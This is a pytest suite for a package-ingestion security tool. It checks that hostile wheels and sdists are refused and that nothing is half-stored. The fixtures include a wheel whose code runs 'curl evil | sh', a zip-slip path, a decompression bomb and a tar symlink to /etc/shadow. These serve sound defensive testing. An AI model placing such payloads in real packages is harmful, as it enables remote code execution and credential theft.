"""Hostile packages and a misbehaving index: each refused with its reason, nothing half-stored."""

from __future__ import annotations

import json
import os
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.builders import build_sdist, build_wheel, metadata_text, sha256
from tests.conftest import Cli
from tests.ingest.conftest import ingest, write_lock
from tests.servers import Fault, ScriptedIndex, scripted_index


def _bomb(directory: Path) -> Path:
    path = build_wheel(directory, "bomb", "1.0")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb/zeros.bin", b"\0" * 20_000_000)
    return path


def _record_mismatch(directory: Path) -> Path:
    clean = build_wheel(directory, "tampered", "1.0")
    altered = directory / "altered.whl"
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(altered, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "tampered/__init__.py":
                data = b"import os; os.system('curl evil | sh')\n"
            target.writestr(info, data)
    altered.replace(clean)
    return clean


def _stored_files(vault: Path) -> list[Path]:
    return (
        [p for p in (vault / "files").rglob("*") if p.is_file()]
        if (vault / "files").exists()
        else []
    )


HOSTILE = {
    "zip-slip": (
        lambda d: build_wheel(d, "slip", "1.0", extra_members=[("../../evil.pth", b"x")]),
        "archive",
        "path traversal",
    ),
    "bomb": (_bomb, "archive", "decompression bomb"),
    "record-mismatch": (_record_mismatch, "archive", "RECORD hash mismatch"),
    "metadata-mismatch": (
        lambda d: build_wheel(d, "liar", "1.0", metadata=metadata_text("liar", "6.6.6")),
        "metadata",
        "does not match",
    ),
    "typosquat": (
        lambda d: build_wheel(d, "reqeusts", "2.31.0"),
        "typosquat",
        "one typo away from popular requests",
    ),
    "malicious": (lambda d: build_wheel(d, "colourama", "0.1"), "malicious", "known malicious"),
    "license-denied": (
        lambda d: build_wheel(d, "copyleft", "1.0", license_expression="AGPL-3.0-only"),
        "license",
        "not allowed",
    ),
    "sdist-only": (
        lambda d: build_sdist(d, "onlysrc", "1.0", license_expression="MIT"),
        "sdist_only",
        "runs its code",
    ),
    "tar-symlink": (
        lambda d: build_sdist(
            d, "linky", "1.0", extra=[_symlink("linky-1.0/x", "../../../etc/shadow")]
        ),
        "archive",
        "points outside",
    ),
}


def _symlink(name: str, target: str):  # type: ignore[no-untyped-def]
    import tarfile

    info = tarfile.TarInfo(name)
    info.type = tarfile.SYMTYPE
    info.linkname = target
    return info


POLICY = "version: 1\ningest:\n  min_age: 3d\n  licenses: {deny: [AGPL-3.0-only], unknown: allow}\n  vulnerabilities: {fail_on: none}\n"


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_package_is_refused(cli: Cli, tmp_path: Path, case: str) -> None:
    build, rule, reason = HOSTILE[case]
    packages = tmp_path / "packages"
    packages.mkdir()
    path = build(packages)
    index = ScriptedIndex()
    index.add(path)
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    lock = write_lock(tmp_path / "requirements.txt", [path])
    vault = tmp_path / "vault"
    with scripted_index(index) as url:
        result = ingest(
            cli,
            url,
            lock,
            vault,
            policy,
            "--format",
            "json",
            expect=1,
        )
    (outcome,) = json.loads(result.stdout)["files"]
    assert outcome["status"] == "refused"
    failing = [c for c in outcome["checks"] if c["status"] == "fail"]
    assert any(c["rule"] == rule and reason in c["message"] for c in failing), failing
    assert _stored_files(vault) == []
    assert not any((vault / "tmp").iterdir()) if (vault / "tmp").exists() else True


def _one(tmp_path: Path, **add: object) -> tuple[ScriptedIndex, Path, Path]:
    packages = tmp_path / "packages"
    packages.mkdir(exist_ok=True)
    wheel = build_wheel(packages, "solid", "1.0", license_expression="MIT")
    index = ScriptedIndex()
    index.add(wheel, **add)  # type: ignore[arg-type]
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    return index, write_lock(tmp_path / "requirements.txt", [wheel]), policy


FAST_RETRIES = {"SSCLI_INDEX_BACKOFF": "0.01"}


def _run(
    cli: Cli, index: ScriptedIndex, lock: Path, policy: Path, vault: Path, expect: int
) -> dict:  # type: ignore[type-arg]
    with scripted_index(index) as url:
        result = ingest(
            cli, url, lock, vault, policy, "--format", "json", expect=expect, env=FAST_RETRIES
        )
    return json.loads(result.stdout)["files"][0]  # type: ignore[no-any-return]


def test_yanked_release_is_refused(cli: Cli, tmp_path: Path) -> None:
    index, lock, policy = _one(tmp_path, yanked="broken on Windows")
    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 1)
    assert {
        "rule": "yanked",
        "status": "fail",
        "message": "the release was yanked: broken on Windows",
    } in outcome["checks"]


def test_too_young_release_is_refused(cli: Cli, tmp_path: Path) -> None:
    index, lock, policy = _one(tmp_path, uploaded=datetime.now(tz=UTC) - timedelta(hours=5))
    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 1)
    assert any(c["rule"] == "min_age" and "younger than" in c["message"] for c in outcome["checks"])


def test_exception_waives_until_it_expires(cli: Cli, tmp_path: Path) -> None:
    index, lock, policy = _one(tmp_path, uploaded=datetime.now(tz=UTC) - timedelta(hours=5))
    waiver = "  exceptions:\n    - package: solid\n      rules: [min_age]\n      reason: urgent security fix, reviewed\n      expires: {}\n"
    policy.write_text(POLICY + waiver.format("2999-01-01"))
    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 0)
    assert any(
        c["status"] == "excepted" and "waived until 2999-01-01" in c["message"]
        for c in outcome["checks"]
    )
    policy.write_text(POLICY + waiver.format("2020-01-01"))
    outcome = _run(cli, index, lock, policy, tmp_path / "vault2", 1)
    assert any(
        c["status"] == "fail" and "expired on 2020-01-01" in c["message"] for c in outcome["checks"]
    )


def test_hash_mismatch_is_refused_and_nothing_kept(cli: Cli, tmp_path: Path) -> None:
    index, lock, policy = _one(tmp_path)
    index.faults.append(Fault(".whl", "swap"))
    vault = tmp_path / "vault"
    outcome = _run(cli, index, lock, policy, vault, 1)
    assert (
        outcome["checks"][0]["rule"] == "hashes"
        and "does not match the pinned" in outcome["checks"][0]["message"]
    )
    assert _stored_files(vault) == [] and not list((vault / "tmp").iterdir())


@pytest.mark.parametrize("kind", ["500", "reset", "truncate"])
def test_transient_faults_are_retried(cli: Cli, tmp_path: Path, kind: str) -> None:
    index, lock, policy = _one(tmp_path)
    index.faults.append(Fault(".whl", kind, times=2))
    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 0)
    assert outcome["status"] == "stored"
    assert sum(1 for path, _ in index.requests if path.endswith(".whl")) == 3


@pytest.mark.parametrize("kind", ["500", "reset", "truncate"])
def test_persistent_faults_fail_cleanly(cli: Cli, tmp_path: Path, kind: str) -> None:
    index, lock, policy = _one(tmp_path)
    index.faults.append(Fault(".whl", kind))
    vault = tmp_path / "vault"
    outcome = _run(cli, index, lock, policy, vault, 1)
    assert (
        outcome["checks"][0]["rule"] == "download"
        and "after 5 attempts" in outcome["checks"][0]["message"]
    )
    assert _stored_files(vault) == [] and not list((vault / "tmp").iterdir())


def test_size_cap_stops_a_download(tmp_path: Path) -> None:
    from sscli.errors import InputError
    from sscli.index.client import IndexClient, IndexSettings

    index, _lock, _policy = _one(tmp_path)
    with scripted_index(index) as url:
        client = IndexClient(IndexSettings(url=url, max_bytes=100))
        listing = client.project("solid").files[0]
        with pytest.raises(InputError, match="larger than the 100 byte limit"):
            client.download(listing, tmp_path / "dl", expected_sha256=None)
    assert list((tmp_path / "dl").iterdir()) == []


def test_credentials_go_only_to_the_index_origin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sscli.index.client import IndexClient, IndexSettings

    index, _lock, _policy = _one(tmp_path)
    index.credentials = "Bearer s3cret"
    monkeypatch.setenv("SSCLI_INDEX_TOKEN", "s3cret")
    with scripted_index(index) as url, scripted_index(ScriptedIndex(files=index.files)) as other:
        client = IndexClient(IndexSettings(url=url))
        listing = client.project("solid").files[0]
        foreign = listing.__class__(
            **{**listing.__dict__, "url": other.replace("/simple/", "/files/") + listing.filename}
        )
        client.download(
            foreign, tmp_path / "dl", expected_sha256=sha256(index.files[listing.filename])
        )
    assert index.requests[0][1].get("Authorization") == "Bearer s3cret"
    monkeypatch.delenv("SSCLI_INDEX_TOKEN")
    with scripted_index(index) as url:
        from sscli.errors import EnvironmentFailure

        with pytest.raises(EnvironmentFailure, match="refused access"):
            IndexClient(IndexSettings(url=url)).project("solid")


def test_disk_full_during_download_stores_nothing(tmp_path: Path) -> None:
    """The file size limit (RLIMIT_FSIZE) makes writes fail as a full disk does."""
    import resource
    import signal
    import subprocess
    import sys

    packages = tmp_path / "packages"
    packages.mkdir()
    big = build_wheel(
        packages,
        "big",
        "1.0",
        license_expression="MIT",
        extra_members=[("big/blob.bin", os.urandom(600_000))],
    )
    index = ScriptedIndex()
    index.add(big)
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    lock = write_lock(tmp_path / "requirements.txt", [big])
    vault = tmp_path / "vault"

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))

    with scripted_index(index) as url:
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "sscli",
                "--state-dir",
                str(tmp_path / "state"),
                "ingest",
                str(lock),
                "--index-url",
                url,
                "--vault",
                str(vault),
                "--policy",
                str(policy),
                "--format",
                "json",
            ],
            capture_output=True,
            text=True,
            preexec_fn=limit,
            check=False,
        )
    assert result.returncode == 1, result.stderr
    (outcome,) = json.loads(result.stdout)["files"]
    assert (
        outcome["checks"][0]["rule"] == "download"
        and "cannot store the download" in outcome["checks"][0]["message"]
    )
    assert "Traceback" not in result.stderr
    assert _stored_files(vault) == [] and not list((vault / "tmp").iterdir())


def test_vulnerable_release_is_refused_with_the_database(
    cli: Cli, tmp_path: Path, snapshot_db: Path
) -> None:
    """requests 2.19.1 is affected by PYSEC-2018-28 (CVE-2018-18074) in the shared OSV snapshot."""
    packages = tmp_path / "packages"
    packages.mkdir()
    wheel = build_wheel(packages, "requests", "2.19.1", license_expression="Apache-2.0")
    index = ScriptedIndex()
    index.add(wheel)
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\ningest:\n  vulnerabilities: {fail_on: any}\n")
    lock = write_lock(tmp_path / "requirements.txt", [wheel])
    with scripted_index(index) as url:
        result = ingest(
            cli,
            url,
            lock,
            tmp_path / "vault",
            policy,
            "--db",
            snapshot_db,
            "--format",
            "json",
            expect=1,
        )
    (outcome,) = json.loads(result.stdout)["files"]
    vulnerability = next(c for c in outcome["checks"] if c["rule"] == "vulnerabilities")
    assert vulnerability["status"] == "fail" and "PYSEC-2018-28" in vulnerability["message"]


def test_policy_that_checks_vulnerabilities_needs_a_database(cli: Cli, tmp_path: Path) -> None:
    index, lock, _policy = _one(tmp_path)
    policy = tmp_path / "strict.yaml"
    policy.write_text("version: 1\ningest:\n  vulnerabilities: {fail_on: high}\n")
    with scripted_index(index) as url:
        result = ingest(
            cli,
            url,
            lock,
            tmp_path / "vault",
            policy,
            "--db",
            tmp_path / "missing.sqlite",
            expect=3,
        )
    assert "no vulnerability database" in result.stderr and "sscli db" in result.stderr


PROVENANCE_DATA = Path(__file__).parents[1] / "attest" / "data"
GCB = "gcb_attestation_test-0.0.0.tar.gz"


@pytest.mark.parametrize(
    ("publisher", "serve", "status", "message"),
    [
        (
            "google:919436158236-compute@developer.gserviceaccount.com",
            True,
            "stored",
            "published by Google",
        ),
        (None, True, "stored", "published by Google"),
        ("github:pypa/sampleproject", True, "refused", "not github:pypa/sampleproject"),
        (
            "google:919436158236-compute@developer.gserviceaccount.com",
            False,
            "refused",
            "serves no PEP 740",
        ),
    ],
)
def test_require_provenance(
    cli: Cli, tmp_path: Path, publisher: str | None, serve: bool, status: str, message: str
) -> None:
    """A real sdist and its real PEP 740 provenance from PyPI, served by a loopback index."""
    index = ScriptedIndex()
    index.add(PROVENANCE_DATA / GCB)
    if serve:
        index.provenance[GCB] = PROVENANCE_DATA / f"{GCB}.provenance"
    requirement = (
        f"{{package: gcb-attestation-test, publisher: '{publisher}'}}"
        if publisher
        else "gcb-attestation-test"
    )
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "version: 1\ningest:\n  allow_sdist_only: [gcb-attestation-test]\n  licenses: {unknown: allow}\n"
        f"  vulnerabilities: {{fail_on: none}}\n  require_provenance: [{requirement}]\n"
    )
    lock = write_lock(tmp_path / "requirements.txt", [PROVENANCE_DATA / GCB])
    with scripted_index(index) as url:
        result = ingest(
            cli,
            url,
            lock,
            tmp_path / "vault",
            policy,
            "--format",
            "json",
            expect=0 if status == "stored" else 1,
        )
    (outcome,) = json.loads(result.stdout)["files"]
    check = next(c for c in outcome["checks"] if c["rule"] == "provenance")
    assert outcome["status"] == status and message in check["message"]


def test_a_small_member_that_compresses_well_is_not_a_bomb(tmp_path: Path) -> None:
    from sscli.ingest.inspect import inspect_archive
    from sscli.policy.model import ArchiveLimits

    padded = b"\x7fELF" + b"\0" * 2_100_000  # as pillow's bundled libXau: ratio over 200
    path = build_wheel(
        tmp_path, "padded", "1.0", extra_members=[("padded.libs/libXau.so.6.0.0", padded)]
    )
    checks, _ = inspect_archive(path, ArchiveLimits(), path.name)
    assert [c.status.value for c in checks if c.rule == "archive"] == ["pass"], checks
    from sscli.ingest.inspect import BOMB_FLOOR  # the bomb refused above is over the floor

    (tmp_path / "bomb").mkdir()
    bomb = _bomb(tmp_path / "bomb")
    assert zipfile.ZipFile(bomb).getinfo("bomb/zeros.bin").file_size > BOMB_FLOOR
